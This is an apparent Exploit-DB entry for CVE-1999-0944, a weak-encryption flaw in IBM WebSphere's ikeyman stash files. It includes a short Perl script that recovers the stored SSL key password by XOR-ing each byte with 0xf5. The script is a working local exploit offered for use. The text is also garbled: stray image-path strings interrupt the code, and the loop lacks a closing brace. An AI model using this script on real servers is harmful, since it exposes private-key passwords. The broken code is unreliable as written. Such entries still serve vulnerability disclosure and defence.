IBM WebSphere 2.0/3.0 ikeyman Weak Encrypted Password Vulnerability

ID EDB-ID:20274
Type exploitdb
Reporter Ben Laurie
Modified 1999-10-24T00:00:00


IBM WebSphere 2.0/3.0 ikeyman Weak Encrypted Password Vulnerability. CVE-1999-0944. Local exploits for multiple platform


IBM WebSphere ships with a tool called 'ikeyman' that encrypts server certificates/key pairs when the IBM HTTP Server and SSL connections are enabled. Ikeyman stores the password in a stash file which can be easily decrypted through the use of a freely available script

#!/usr/bin/perl -w
# - "decrypt" IBM HTTP server stash files. No, really. They
*are* this pathetic.
# sploit (BoByRiTe) 1999, Major Malfunction, code by Ben Laurie, cos I
dudn't dud perly thing.

use strict;

die "Usage: $0 <stash file>\n" if $#ARGV != 0;my $file=$ARGV[0];
open(F,$file) || die "Can't open$file: $!";

my $stash;read F,$stash,1024;

my @unstash=map { $_^0xf5 } unpack("C*",$stash);

foreach my $c (@unstash) {
    last if $c eq 0;
    printf "%c",$c;
printf "\n";